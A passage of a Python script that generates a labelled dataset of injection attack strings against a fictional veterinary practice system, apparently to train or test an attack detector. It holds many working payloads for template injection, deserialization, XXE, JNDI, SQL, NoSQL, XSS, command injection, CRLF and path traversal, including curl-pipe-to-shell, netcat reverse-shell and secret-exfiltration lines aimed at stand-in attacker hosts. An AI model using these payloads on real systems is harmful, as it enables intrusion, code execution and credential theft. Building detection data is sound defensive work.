    ("vacc-jinja2_subclasses_popen", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("invoice-jinja2_request_open", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("vacc-jinja2_attr+hex_escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("referral-mako_expression", "Dear colleague, ${__import__('os').popen('id').read()}"),
    ("referral-mako_module_block", "<%! import subprocess %>${subprocess.check_output(['cat','/etc/passwd'])}"),
    ("vacc-tornado_import", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("msg-django_debug_tag", "Dear {{ owner.first_name }}, {% debug %}"),
    ("invoice-twig_filter_system", "{{ ['id']|filter('system') }}"),
    ("invoice-twig_undefined_callback", "{{ _self.env.registerUndefinedFilterCallback(\"exec\") }}{{ _self.env.getFilter(\"id\") }}"),
    ("vacc-smarty_function", "Reminder for {$pet_name}: {system('curl http://attacker.example/s|sh')}"),
    ("report-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("report-velocity_runtime", "#set($rt = $patient.class.forName('java.lang.Runtime'))#set($p = $rt.getRuntime().exec('id'))$p.waitFor()"),
    ("report-thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("lab-spel_runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("referral-spel_scanner", "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream()).useDelimiter('\\A').next()}"),
    ("portal-ognl_runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("report-el_reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("msg-erb_backtick", "Hi <%= `id` %>"),
    ("referral-erb_file_read", "<%= File.read('/etc/passwd') %>"),
    ("msg-ejs_child_process", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("referral-pug_interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("msg-nunjucks_range_constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("rx-python_eval", "0.1*__import__('os').system('id')"),
    ("rx-python_eval_no_builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    ("vacc-format_string_globals", "Reminder for {pet.__class__.__init__.__globals__[os].environ[DATABASE_URL]}"),
    ("rx-node_eval", "require('child_process').execSync('id').toString()"),
    ("rx-node_vm_escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("imaging-php_polyglot_upload", "GIF89a;<?php system($_GET['c']); ?>"),
    ("import-pyyaml_apply", "!!python/object/apply:os.system [\"curl -s http://attacker.example/y | sh\"]"),
    ("portal-pickle_protocol0", "cposix\nsystem\n(Vcurl -s http://attacker.example/p|sh\ntR."),
    ("msg-node_serialize_iife", "{\"reminder\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("lab-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Vet\",\"autoCommit\":true}"),
    ("lab-jackson_default_typing", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://203.0.113.12:1099/x\",\"autoCommit\":true}]"),
    ("invoice-jsonnet_type_handling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd.exe\",\"/c ping 203.0.113.4\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\"}}"),
    ("export-php_object_injection", "O:14:\"ReportExporter\":1:{s:4:\"path\";s:31:\"/var/www/html/uploads/shell.php\";}"),
    ("lab-xstream_event_handler", "<sorted-set><string>ALT</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>curl</string><string>http://attacker.example/x</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("import-snakeyaml_script_engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("lab-xxe_file", "<?xml version=\"1.0\"?><!DOCTYPE result [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><result><analyte>ALT</analyte><value>&x;</value><unit>U/L</unit></result>"),
    ("lab-xxe_oob_parameter", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/ext.dtd\"> %d;]><r>&send;</r>"),
    ("lab-xinclude", "<labReport xmlns:xi=\"http://www.w3.org/2001/XInclude\"><comment><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></comment></labReport>"),
    ("imaging-svg_xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"300\" height=\"40\"><text x=\"5\" y=\"25\">&h;</text></svg>"),
    ("hl7-entity_expansion", "<!DOCTYPE v [<!ENTITY a \"ALT ALT ALT ALT\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;\">]><lab>&f;</lab>"),
    ("referral-xxe_ssrf", "<?xml version=\"1.0\"?><!DOCTYPE letter [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><letter><to>Dr. Hughes</to><body>&m;</body></letter>"),
    ("referral-jndi_lookup", "Patient: Bella ${jndi:ldap://attacker.example:1389/a}"),
    ("lab-jndi_lower_nesting", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://203.0.113.44/o}"),
    ("referral-jndi_env_exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example/a}"),
    ("imaging-jndi_env_default", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("portal-prototype_pollution_proto", "{\"__proto__\":{\"isVet\":true,\"role\":\"admin\"}}"),
    ("portal-prototype_pollution_constructor", "{\"constructor\":{\"prototype\":{\"canPrescribeControlled\":true}}}"),
    ("portal-prototype_pollution_qs", "pet[__proto__][isAdmin]=true"),
    ("portal-prototype_pollution_ejs_gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('curl http://attacker.example/pp|sh');s\"}}"),
    ("export-csv_hyperlink", "=HYPERLINK(\"http://attacker.example/p?c=\"&B2&C2,\"View lab results\")"),
    ("export-csv_dde", "=cmd|' /C powershell -c iwr http://203.0.113.61/x.ps1|iex'!A1"),
    ("export-csv_at_dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("export-csv_importxml", "+IMPORTXML(CONCAT(\"https://attacker.example/?q=\",A2),\"//a\")"),
    ("export-csv_webservice", "=WEBSERVICE(\"http://attacker.example/x?d=\"&ENCODEURL(D2))"),
    ("report-groovy_gstring", "${\"id\".execute().text}"),
    ("invoice-razor_process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\temp\\\\r.txt\")"),
    ("msg-jinja2_french_reminder", "Bonjour {{ owner.prenom }}, le rappel de vaccin de « Pistache » est dû. {{ lipsum.__globals__.os.popen('id').read() }}"),
    ("plain-jinja2_ssti", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("plain-jndi_lookup", "${jndi:ldap://attacker.example/x}"),
    ("plain-prototype_pollution", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-csv_formula", "=1+1+cmd|' /C calc'!A0"),
    ("plain-xxe_file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-python_eval", "__import__('os').system('id')"),
]

# ---------------------------------------------------------------------------
# nosqli
# ---------------------------------------------------------------------------
NOSQLI = [
    ("portal-ne_operator", "{\"username\": \"dr.patel\", \"password\": {\"$ne\": null}}"),
    ("portal-regex_gt_operator", "{\"username\": {\"$regex\": \"^adm\"}, \"password\": {\"$gt\": \"\"}}"),
    ("portal-operator_injection_qs", "username=dr.patel&password[$ne]=x"),
    ("chip-regex_exists", "{\"owner_email\": {\"$regex\": \".*\"}, \"microchip\": {\"$exists\": true}}"),
    ("patient-where_sleep", "{\"$where\": \"this.species == 'canine' || sleep(5000) || true\"}"),
    ("patient-where_string_break", "'; return true; var a='"),
    ("patient-where_blind_regex", "Bella' || this.password.match(/^a/) || 'x'=='y"),
    ("invoice-or_tautology", "{\"patient_id\": 55213, \"$or\": [{\"owner_id\": 4471}, {\"owner_id\": {\"$ne\": 4471}}]}"),
    ("appt-where_busy_loop", "{\"$where\": \"function(){var d=new Date();while(new Date()-d<6000){}return true;}\"}"),
    ("lab-expr_function", "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("report-pipeline_lookup", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"vet_id\", \"foreignField\": \"_id\", \"as\": \"vet\"}}]"),
    ("portal-regex_qs", "username=admin&password[$regex]=^p.*"),
    ("portal-reset_token_ne", "{\"email\": {\"$gt\": \"\"}, \"reset_token\": {\"$ne\": \"x\"}}"),
    ("patient-mango_selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"owner_email\", \"phone\"]}"),
    ("patient-nin_empty", "{\"name\": {\"$nin\": []}}"),
    ("appt-or_empty_document", "{\"$or\": [{}, {\"vet\": \"dr.kim\"}]}"),
    ("vacc-ne_qs", "vaccine[$ne]=&due_before=2099-01-01"),
    ("invoice-regex_card", "{\"weight_kg\": {\"$gte\": 0}, \"owner.card_last4\": {\"$regex\": \"^4\"}}"),
    ("patient-where_sleep_string", "Luna'; sleep(5000); var x='"),
    ("portal-type_operator", "{\"username\": \"admin\", \"password\": {\"$type\": 2}}"),
    ("plain-ne_operator", "{\"$ne\": null}"),
    ("plain-gt_operator", "{\"$gt\": \"\"}"),
    ("plain-regex_operator", "{\"$regex\": \".*\"}"),
]

# ---------------------------------------------------------------------------
# crlf (header / log / mail injection)
# ---------------------------------------------------------------------------
CRLF = [
    ("download-header_injection", "Bella_Smith_rads.zip\r\nSet-Cookie: session=attacker-fixed-0001; Path=/"),
    ("redirect-header_injection+urlenc", "/portal/pets%0d%0aLocation:%20https://attacker.example/"),
    ("lang-response_splitting", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("soap-log_forging", "owner happy with progress\n2024-06-14 09:12:44,118 INFO [audit] user=dr.patel action=cd_register.adjust drug=methadone delta=-10ml result=APPROVED"),
    ("patient-log_terminal_escape", "Bella\x1b]0;vetpms\x07\x1b[1A\x1b[2K[INFO] login ok user=admin"),
    ("owner-mail_header_bcc", "owner@example.com\r\nBcc: everyone@attacker.example"),
    ("vacc-mail_subject_injection", "Reminder: Bella's booster\r\nBcc: list@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay outstanding balance</a>"),
    ("msg-smtp_data_injection", "See you Tuesday!\r\n.\r\nMAIL FROM:<billing@oakhill-vets.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: Overdue invoice\r\n\r\nPay at https://attacker.example/\r\n.\r\n"),
    ("download-header_injection+unicode_crlf", "rads.zip%E5%98%8A%E5%98%8DSet-Cookie:%20sid=attacker-fixed-0002"),
    ("patient-header_injection+json_escape", "Bella\\u000d\\u000aSet-Cookie: sid=attacker-fixed-0003"),
    ("patient-syslog_forging", "Luna\n<34>1 2024-06-14T09:00:00Z vetpms auth - - - login success user=admin"),
    ("imaging-lf_header_injection", "thorax.dcm\nContent-Type: text/html\n\n<h1>Session expired</h1><form action=https://attacker.example/login method=post><input name=pw type=password></form>"),
    ("owner-mail_header+urlenc_lf", "owner@example.com%0ACc:spam@attacker.example"),
    ("invoice-log_forging", "Rufus\r\n[2024-06-14 10:02:11] WARN payment reconciled manually invoice=INV-2024-10233 amount=0.00 by=manager"),
    ("soap-json_log_forging", "\", \"level\":\"INFO\", \"user\":\"admin\", \"msg\":\"password changed"),
    ("redirect-refresh_header", "https://portal.example-vets.co.uk/\r\nRefresh: 0; url=https://attacker.example/"),
    ("export-content_type_cors", "text/csv\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("msg-mail_reply_to", "Oak Hill Vets\r\nReply-To: billing@attacker.example"),
    ("msg-body_injection+urlenc", "Bella%0d%0a%0d%0a<script>alert(document.domain)</script>"),
    ("download-header_injection+double_urlenc", "Bella.pdf%250d%250aSet-Cookie:%2520sid=attacker-fixed-0004"),
    ("audit-tab_log_forging", "Bella\t\n2024-06-14T10:00:00Z\tdr.patel\tDELETE\tpatient=55213\tOK"),
    ("imaging-internal_redirect_header", "RAD-24-00931.zip\r\nX-Accel-Redirect: /internal/pacs/exports/"),
    ("owner-mail_header_accented", "lucía.fernández@example.com\r\nBcc: lista@attacker.example"),
    ("plain-header_injection", "\r\nSet-Cookie: admin=1"),
    ("plain-header_injection+urlenc", "%0d%0aSet-Cookie:%20admin=1"),
    ("plain-log_forging", "\n[INFO] user=admin authenticated"),
    ("plain-header_injection+urlenc_lf", "%0aSet-Cookie:%20admin=1"),
]

# ---------------------------------------------------------------------------
# ldap-xpath
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("portal-ldap_filter_break", "*)(uid=*))(|(uid=*"),
    ("portal-ldap_absolute_true", "admin)(&)"),
    ("directory-ldap_wildcard_or", "*)(objectClass=*"),
    ("portal-ldap_blind_attribute", "dr.patel)(userPassword=a*"),
    ("directory-ldap_group_probe", "*)(memberOf=cn=controlled-drugs,ou=groups,dc=oakhill,dc=example"),
    ("directory-ldap_phone_enum", "Smith)(telephoneNumber=*"),
    ("portal-ldap_null_truncation+urlenc", "admin))%00"),
    ("directory-ldap_not_filter", "*)(!(cn=nobody)"),
    ("formulary-xpath_tautology", "meloxicam' or '1'='1"),
    ("formulary-xpath_union_nodes", "x'] | //staff/* | //drug['"),
    ("formulary-xpath_blind_substring", "x' or substring(//user[1]/password,1,1)='p' or 'a'='b"),
    ("lab-xpath_structure_probe", "ALT' or string-length(name(/*[1]))=9 or ''='"),
    ("lab-xpath_union_root", "ALT'] | /* | //analyte['"),
    ("formulary-xpath_function_break", "x') or ('1'='1"),
    ("referral-xpath_doc_oob", "x' or doc('http://attacker.example/x')/a or '"),
    ("invoice-xpath_numeric", "10233 or 1=1"),
    ("formulary-xpath_contains_secret", "x' or contains(//config/smtp/password,'a') or 'q'='z"),
    ("plain-ldap_wildcard", "*)(|(objectClass=*)"),
    ("plain-xpath_tautology", "' or ''='"),
    ("plain-ldap_absolute_true", "*)(&)"),
]

LITERALS = [
    ("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
    ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAP_XPATH),
]

# ---------------------------------------------------------------------------
# Small hand-written pools for templates
# ---------------------------------------------------------------------------

def urlenc(s):
    return quote(s, safe="")


def urlenc2(s):
    return quote(quote(s, safe=""), safe="")


def mix_case(rng, word):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)


SQL_KEYWORD = re.compile(r"\b(UNION|SELECT|FROM|AND|OR|NULL|IS|NOT|UPDATE|SET|WHERE|CAST|AS|LIMIT)\b")


def sql_case_mix(rng, s):
    return SQL_KEYWORD.sub(lambda m: mix_case(rng, m.group(0)), s)


def sql_comment_space(s):
    return s.replace(" ", "/**/").replace("--/**/", "-- ")


HTML_NAMES = re.compile(r"(</?)([a-zA-Z]+)|(\s)([a-z]+)(=)")


def html_case_mix(rng, s):
    def sub(m):
        if m.group(1) is not None:
            return m.group(1) + mix_case(rng, m.group(2))
        return m.group(3) + mix_case(rng, m.group(4)) + m.group(5)
    return HTML_NAMES.sub(sub, s)


SQLI_PREFIXES = [("patient", "Bella"), ("patient", "Rufus"), ("owner", "Kowalski"), ("rx", "meloxicam"),
                 ("lab", "ALT"), ("vacc", "A123B04"), ("imaging", "RAD-24-00931"),
                 ("inventory", "100-4471"), ("chip", "985141000123456"), ("invoice", "INV-2024-10233")]
SQLI_SUFFIXES = [("union", "' UNION SELECT username, password_hash, NULL FROM staff_users-- -"),
                 ("time_blind", "' AND (SELECT 1 FROM pg_sleep(6)) IS NOT NULL-- -"),
                 ("tautology", "' OR 2>1-- -"),
                 ("stacked_update", "'; UPDATE staff_users SET role='admin' WHERE username='locum2';--"),
                 ("error_cast", "' AND 1=CAST((SELECT current_user) AS int)--"),
                 ("boolean_blind", "' AND (SELECT length(password_hash) FROM staff_users LIMIT 1)>20-- -")]


def t_sqli(rng):
    ctx, prefix = rng.choice(SQLI_PREFIXES)
    tech, suffix = rng.choice(SQLI_SUFFIXES)
    enc = rng.choice(["", "", "urlenc", "double_urlenc", "comment_space", "case_mix"])
    v = prefix + suffix
    if enc == "urlenc":
        v = urlenc(v)
    elif enc == "double_urlenc":
        v = urlenc2(v)
    elif enc == "comment_space":
        v = sql_comment_space(v)
    elif enc == "case_mix":
        v = sql_case_mix(rng, v)
    return "{}-{}".format(ctx, tech) + ("+" + enc if enc else ""), v


XSS_PREFIXES = [("patient", "Bella"), ("soap", "O: T 39.4 °C "), ("lab", "ALT 142 U/L (H) "),
                ("vacc", "Nobivac L4 "), ("msg", "Thanks! "), ("referral", "Re: Oscar "),
                ("imaging", "thorax_RL.jpg"), ("invoice", "Line 4: ")]
XSS_PAYLOADS = [("img_onerror", "<img src=x onerror=alert(document.domain)>"),
                ("svg_onload", "<svg onload=fetch('//attacker.example/?'+document.cookie)>"),
                ("external_script", "<script src=https://attacker.example/x.js></script>"),
                ("iframe_srcdoc", "<iframe srcdoc=\"<script>parent.alert(document.cookie)</script>\"></iframe>"),
                ("details_ontoggle", "<details open ontoggle=alert(1)>"),
                ("input_onfocus", "\"><input autofocus onfocus=alert(document.cookie)>")]


def t_xss(rng):
    ctx, prefix = rng.choice(XSS_PREFIXES)
    tech, payload = rng.choice(XSS_PAYLOADS)
    enc = rng.choice(["", "", "", "urlenc", "double_urlenc", "case_mix"])
    v = prefix + payload
    if enc == "urlenc":
        v = urlenc(v)
    elif enc == "double_urlenc":
        v = urlenc2(v)
    elif enc == "case_mix":
        v = html_case_mix(rng, v)
    return "{}-{}".format(ctx, tech) + ("+" + enc if enc else ""), v


CMDI_PREFIXES = [("imaging", "IM-0001-0003.dcm"), ("lab", "10.0.4.21"), ("printer", "Zebra_GK420d"),
                 ("export", "RAD-24-00931.zip"), ("photo", "IMG_2041.jpg"), ("chip", "985141000123456")]
CMDI_PAYLOADS = [("semicolon", "; curl -s http://attacker.example/t | sh"),
                 ("pipe", "| nc 203.0.113.8 4444 -e /bin/sh"),
                 ("and_chain", " && wget -qO- http://203.0.113.14/t | sh"),
                 ("subshell", "$(sleep 7)"),
                 ("backtick", "`nslookup x.oob.attacker.example`"),
                 ("newline", "\ncat /etc/passwd")]


def t_cmdi(rng):
    ctx, prefix = rng.choice(CMDI_PREFIXES)
    tech, payload = rng.choice(CMDI_PAYLOADS)
    enc = rng.choice(["", "", "urlenc", "ifs_space"])
    v = prefix + payload
    if enc == "urlenc":
        v = urlenc(v)
    elif enc == "ifs_space":
        v = prefix + payload.strip(" ").replace(" ", "${IFS}")
    return "{}-{}".format(ctx, tech) + ("+" + enc if enc else ""), v


TRAV_PREFIXES = [("imaging", "/mnt/pacs/2024/05/"), ("report", ""), ("attachment", "uploads/55213/"),
                 ("template", "letters/"), ("export", "exports/RAD-24-00931/")]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "srv/vetpms/.env",
                "etc/orthanc/orthanc.json", "var/lib/postgresql/.pgpass"]
TRAV_STEPS = {"": "../", "urlenc": "%2e%2e%2f", "double_urlenc": "%252e%252e%252f",
              "overlong_utf8": "%c0%ae%c0%ae%c0%af", "backslash": "..\\"}


def t_traversal(rng):
    ctx, prefix = rng.choice(TRAV_PREFIXES)
    enc = rng.choice(["", "", "backslash", "urlenc", "double_urlenc", "overlong_utf8"])
    target = rng.choice(TRAV_TARGETS)
    v = prefix + TRAV_STEPS[enc] * rng.randint(4, 8)
    if enc == "backslash":
        return "{}-dot_dot_backslash".format(ctx), v + target.replace("/", "\\")
    return "{}-dot_dot_slash".format(ctx) + ("+" + enc if enc else ""), v + target


SSRF_TARGETS = [((169, 254, 169, 254), "", "/latest/meta-data/iam/security-credentials/", "cloud_metadata"),
                ((127, 0, 0, 1), ":8042", "/patients", "internal_service"),
                ((10, 0, 4, 21), "", "/cgi-bin/config.xml", "internal_host"),
                ((127, 0, 0, 1), ":9200", "/_search?q=*", "internal_service"),
                ((192, 168, 1, 1), "", "/", "internal_host"),
                ((172, 17, 0, 1), ":2375", "/containers/json", "internal_service")]
SSRF_CTX = ["photo", "webhook", "referral", "pacs", "lab"]


def ip_form(rng, ip, form):
    a, b, c, d = ip
    if form == "decimal_ip":
        return str((a << 24) + (b << 16) + (c << 8) + d)
    if form == "hex_ip":
        return "0x{:08x}".format((a << 24) + (b << 16) + (c << 8) + d)
    if form == "octal_ip":
        return ".".join("0{:o}".format(x) if x else "0" for x in ip)
    if form == "mixed_ip":
        return "0x{:x}.{}.0{:o}.{}".format(a, b, c, d) if c else "0x{:x}.{}.{}.{}".format(a, b, c, d)
    return "[::ffff:{:x}:{:x}]".format((a << 8) | b, (c << 8) | d)


def t_ssrf(rng):
    ip, port, path, tech = rng.choice(SSRF_TARGETS)
    form = rng.choice(["", "", "decimal_ip", "hex_ip", "octal_ip", "mixed_ip", "ipv6_mapped"])
    host = ip_form(rng, ip, form) if form else ".".join(str(x) for x in ip)
    cls = "{}-{}".format(rng.choice(SSRF_CTX), tech) + ("+" + form if form else "")
    return cls, "http://{}{}{}".format(host, port, path)


JNDI_CTX = [("referral", "Referral for Bella "), ("lab", "OBX|1|ST|COMMENT||"), ("msg", "Hi team, "),
            ("patient", "Luna "), ("imaging", "RAD-24-00931 ")]
JNDI_HOSTS = ["attacker.example:1389", "203.0.113.44:1389", "l4j.attacker.example", "198.51.100.9:1099"]


def obfuscate_char(rng, c):
    k = rng.randint(0, 3)
    if k == 0:
        return "${lower:" + c + "}"
    if k == 1:
        return "${::-" + c + "}"
    if k == 2:
        return "${env:NOPE:-" + c + "}"
    return c


SSTI_FOR_URLENC = [("jinja2_ssti", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
                   ("freemarker_execute", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}"),
                   ("spel_runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}")]


def t_code(rng):
    if rng.random() < 0.6:
        ctx, prefix = rng.choice(JNDI_CTX)
        word = "".join(obfuscate_char(rng, c) for c in "jndi")
        proto = rng.choice(["ldap", "rmi", "dns", "ldaps"])
        v = "{}${{{}:{}://{}/{}}}".format(prefix, word, proto, rng.choice(JNDI_HOSTS),
                                           rng.choice(["a", "Vet", "x", "o"]))
        return "{}-jndi_lookup_nesting".format(ctx), v
    tech, payload = rng.choice(SSTI_FOR_URLENC)
    ctx = rng.choice(["vacc", "referral", "report"])
    return "{}-{}+urlenc".format(ctx, tech), urlenc(payload)


NOSQL_FIELDS = [("portal", "username=dr.patel&password"), ("portal", "username=admin&password"),
                ("search", "microchip"), ("search", "owner_email"), ("portal", "email=owner@example.com&reset_token")]
NOSQL_OPS = [("$ne", "x"), ("$gt", ""), ("$regex", ".*"), ("$exists", "true"), ("$nin][", "x")]


def t_nosqli(rng):
    ctx, field = rng.choice(NOSQL_FIELDS)
    op, val = rng.choice(NOSQL_OPS)
    return "{}-operator_injection_qs".format(ctx), "{}[{}]={}".format(field, op, val)


CRLF_CASES = [("download", "Bella_Smith_rads.zip", "header_injection", "Set-Cookie: sid=attacker-fixed-0042"),
              ("redirect", "/portal/appointments", "header_injection", "Location: https://attacker.example/"),
              ("lang", "de", "header_injection", "Set-Cookie: role=vet_admin"),
              ("owner", "rocky.owner@example.com", "mail_header", "Bcc: list@attacker.example"),
              ("vacc", "Booster due for Max", "mail_header", "Cc: all-clients@attacker.example")]


def t_crlf(rng):
    ctx, prefix, tech, header = rng.choice(CRLF_CASES)
    enc = rng.choice(["", "", "lf", "urlenc", "double_urlenc"])
    if enc == "urlenc":
        v = prefix + "%0d%0a" + header.replace(" ", "%20")
    elif enc == "double_urlenc":
        v = prefix + "%250d%250a" + header.replace(" ", "%2520")
    elif enc == "lf":
        return "{}-{}_bare_lf".format(ctx, tech), prefix + "\n" + header
    else:
        v = prefix + "\r\n" + header
    return "{}-{}".format(ctx, tech) + ("+" + enc if enc else ""), v


LDAP_POOL = [("portal", "ldap_filter_break", "dr.patel)(|(uid=*"),
                ("directory", "ldap_wildcard_or", "vet*)(|(objectClass=*"),
                ("formulary", "xpath_tautology", "carprofen' or 'a'='a"),
                ("lab", "xpath_union_nodes", "GLU'] | //user/password | //x['")]


def t_ldap_xpath(rng):
    ctx, tech, payload = rng.choice(LDAP_POOL)
    enc = rng.choice(["", "", "urlenc", "double_urlenc"])
    if not enc:
        return "{}-{}".format(ctx, tech), payload
    return "{}-{}+{}".format(ctx, tech, enc), urlenc(payload) if enc == "urlenc" else urlenc2(payload)


# category -> (template, number of templated values)
TEMPLATES = {
    "sqli": (t_sqli, 6),
    "xss": (t_xss, 8),
    "cmdi": (t_cmdi, 8),
    "traversal": (t_traversal, 6),
    "ssrf": (t_ssrf, 6),
    "code": (t_code, 8),
    "nosqli": (t_nosqli, 4),
    "crlf": (t_crlf, 6),
    "ldap-xpath": (t_ldap_xpath, 3),
}

CLASS_RE = re.compile(r"^[a-z0-9]+-[a-z0-9_]+(\+[a-z0-9_]+)?$")


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for cat, literals in LITERALS:
        items = []
        for cls, v in literals:
            assert v not in seen, ("duplicate literal", cat, v)
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        template, n_tpl = TEMPLATES[cat]
        made = 0
        attempts = 0
        while made < n_tpl:
            attempts += 1
            assert attempts < 10000, cat
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
            made += 1
        for cls, v in items:
            assert isinstance(v, str) and v and len(v) <= 1800, (cat, cls)
            assert CLASS_RE.match(cls), (cat, cls)
            rows.append({"category": cat, "class": cls, "value": v})
        stats.append((cat, len(items), n_lit))

    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            benign_values = {json.loads(line)["value"] for line in fh}
        clash = [r["value"] for r in rows if r["value"] in benign_values]
        assert not clash, ("value in both files", clash[:3])

    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, row in enumerate(rows, 1):
            obj = {"id": "{}-{:05d}".format(ID_PREFIX, i), "category": row["category"],
                   "class": row["class"], "label": "attack", "value": row["value"]}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print("{:<12} {:>4}  (literals {:>3})".format(cat, n, n_lit))
    n_plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r["class"])
    print("{:<12} {:>4}  (literals {:>3}, {:.0%}; plain {}, encoded {})".format(
        "TOTAL", len(rows), total_lit, total_lit / len(rows), n_plain, n_enc))
    print("wrote", out)


if __name__ == "__main__":
    main()
